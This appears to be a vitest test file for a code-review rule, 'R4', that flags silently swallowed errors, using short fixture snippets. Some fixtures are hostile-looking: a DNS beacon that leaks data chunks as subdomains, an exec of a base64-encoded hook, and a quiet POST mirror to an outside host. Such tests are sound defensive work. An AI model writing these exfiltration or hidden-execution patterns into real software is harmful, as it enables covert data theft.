// A failure dropped on the floor where it matters (a request, a lookup that carries data) is R4;
// an optional local tool that may be missing is not.
import { describe, expect, it } from "vitest";
import { at } from "./helpers";

const r4 = (files: Record<string, string>) => at(files, "R4");

describe("an error handler that does nothing", () => {
  it("on a request is a failure nobody sees", () => {
    const js = `const https = require("https");\n\nfunction mirror(body) {\n  const req = https.request({ host: "tally.votebox.io", path: "/v1", method: "POST" });\n  req.on("error", () => {});\n  req.end(JSON.stringify(body));\n}\n`;
    expect(r4({ "scripts/submit.js": js })).toEqual(["scripts/submit.js:5"]);
  });
  it("around a DNS lookup that carries data is a failure nobody sees", () => {
    const py = `import socket\n\ndef beacon(chunks):\n    for n, c in enumerate(chunks):\n        try:\n            socket.gethostbyname(f"{c}.{n}.t.leaguepulse.io")\n        except Exception:\n            pass\n`;
    expect(r4({ "scripts/sync.py": py })).toEqual(["scripts/sync.py:7"]);
  });
  it("around code run from a string hides what that code tried", () => {
    const py = `import base64\n\n_HOOK = "cHJpbnQoJ2hpJyk="\n\ndef warm():\n    try:\n        exec(base64.b64decode(_HOOK))\n    except Exception:\n        pass\n`;
    const js = `const src = process.argv[2] || "";\ntry {\n  new Function(src)();\n} catch (_) {}\n`;
    expect(r4({ "scripts/warm.py": py })).toEqual(["scripts/warm.py:8"]);
    expect(r4({ "scripts/plugin.js": js })).toEqual(["scripts/plugin.js:4"]);
    // A regex's exec is not code run from a string.
    const re = `function first(s) {\n  try {\n    return /\\d+/.exec(s)[0];\n  } catch {}\n}\n`;
    expect(r4({ "scripts/num.js": re })).toEqual([]);
  });
  it("around an optional local tool is a fallback", () => {
    const py = `import subprocess\n\ndef git_diff(path):\n    try:\n        out = subprocess.run(["git", "diff", path], capture_output=True, text=True, check=True)\n        return out.stdout\n    except Exception:\n        pass\n    return None\n`;
    const js = `const readline = require("readline");\nconst rl = readline.createInterface({ input: process.stdin });\nrl.on("error", () => {});\n`;
    expect(r4({ "scripts/diff.py": py })).toEqual([]);
    expect(r4({ "scripts/ask.js": js })).toEqual([]);
  });
});

describe("input that fails to read or parse and is passed over", () => {
  it("drops records without a word", () => {
    const rows = `import csv\n\ndef load(path):\n    totals = {}\n    with open(path) as fh:\n        for row in csv.DictReader(fh):\n            try:\n                totals[row["sku"]] = int(row["qty"])\n            except Exception:\n                pass\n    return totals\n`;
    const files = `import json, glob\n\ndef gather():\n    out = []\n    for f in glob.glob("exports/*.json"):\n        try:\n            with open(f) as fh:\n                out.extend(json.load(fh)["items"])\n        except Exception:\n            continue\n    return out\n`;
    expect(r4({ "scripts/load.py": rows })).toEqual(["scripts/load.py:9"]);
    expect(r4({ "scripts/gather.py": files })).toEqual(["scripts/gather.py:9"]);
  });
  it("is tidying when the file is rewritten in place or another way is tried next", () => {
    const tidy = `from pathlib import Path\n\ndef pretty(p: Path) -> None:\n    try:\n        text = p.read_text(encoding="utf-8")\n        p.write_text(reformat(text), encoding="utf-8")\n    except Exception:\n        pass\n`;
    const fallback = `def score(path):\n    try:\n        with open(path) as fh:\n            return float(fh.readline())\n    except Exception:\n        pass\n    return estimate(path)\n`;
    expect(r4({ "scripts/pretty.py": tidy })).toEqual([]);
    expect(r4({ "scripts/score.py": fallback })).toEqual([]);
  });
});

describe("an error handler that explains itself", () => {
  const loop = (handler: string) =>
    `import json, glob\n\ndef gather():\n    out = []\n    for f in glob.glob("exports/*.json"):\n        try:\n            with open(f) as fh:\n                out.extend(json.load(fh)["items"])\n${handler}\n    return out\n`;
  it("was left empty on purpose, in a comment of its own or beside the except", () => {
    expect(
      r4({
        "scripts/a.py": loop(
          "        except Exception:\n            # an unreadable export is skipped\n            continue",
        ),
      }),
    ).toEqual([]);
    expect(
      r4({
        "scripts/b.py": loop(
          "        except Exception:  # not every file is an export\n            continue",
        ),
      }),
    ).toEqual([]);
  });
  it("still counts when it passes over a failure and then reports success", () => {
    const py = `import requests\n\ndef push(rows):\n    try:\n        requests.post("https://sheets.tallyhub.io/rows", json=rows, timeout=10)\n    except Exception:\n        # best effort\n        pass\n    print("Uploaded successfully")\n`;
    expect(r4({ "scripts/push.py": py })).toEqual(["scripts/push.py:6"]);
  });
});

describe("a shell step whose failure is hidden", () => {
  it("named by its subcommand, or a kernel setting, is R4", () => {
    const sh = `#!/bin/sh\nset -u\nfor day in 1 2 3; do\n  ledger-cli ingest "day-$day.json" books.db 2>/dev/null || true\ndone\nsysctl -w net.ipv4.ip_forward=1 || true\nnpx turbo run build --dry=json > plan.json || true\necho done\n`;
    expect(r4({ "scripts/sync.sh": sh })).toEqual([
      "scripts/sync.sh:4",
      "scripts/sync.sh:6",
      "scripts/sync.sh:7",
    ]);
  });
  it("captured as an optional value is a probe", () => {
    const sh = `#!/bin/sh\nid=$(docker ps -q --filter "label=app=web" 2>/dev/null || true)\n[ -n "$id" ] && echo "running: $id"\n`;
    expect(r4({ "scripts/probe.sh": sh })).toEqual([]);
  });
});

describe("On Error Resume Next", () => {
  it("in a VBA module skips every later error", () => {
    const bas = `Attribute VB_Name = "Summary"\nSub Build()\n    On Error Resume Next\n    Sheets("Totals").Delete\n    Sheets.Add.Name = "Totals"\nEnd Sub\n`;
    expect(r4({ "assets/Summary.bas": bas })).toEqual(["assets/Summary.bas:3"]);
  });
});

describe("a request whose failure becomes an empty value", () => {
  const page = (after: string) =>
    `export default async function Page({ id }) {\n  const post = await fetch(\`https://api.blogpress.io/posts/\${id}\`)\n    .then((r) => r.json())\n    .catch(() => null);\n${after}\n}\n`;
  it("is handled when the next lines check for it", () => {
    expect(
      r4({ "templates/page.tsx": page("  if (!post) return notFound();\n  return render(post);") }),
    ).toEqual([]);
  });
  it("is swallowed when nothing looks", () => {
    expect(r4({ "templates/page.tsx": page("  return render(post);") })).toEqual(["templates/page.tsx:4"]);
  });
});

describe("best-effort teardown", () => {
  it("dropping views that may not exist, or closing, and passing over a failure is not R4", () => {
    const py = `def cleanup(con, views):\n    for v in views:\n        try:\n            con.execute(f"DROP VIEW IF EXISTS {v}")\n        except Exception:\n            pass\n    try:\n        con.close()\n    except Exception:\n        pass\n`;
    expect(r4({ "scripts/etl.py": py })).toEqual([]);
  });
  it("passing over a failed write in the same shape still is", () => {
    const py = `def load(con, rows):\n    try:\n        con.execute("INSERT INTO stock VALUES (?, ?)", rows)\n    except Exception:\n        pass\n`;
    expect(r4({ "scripts/etl.py": py })).toEqual(["scripts/etl.py:4"]);
  });
});
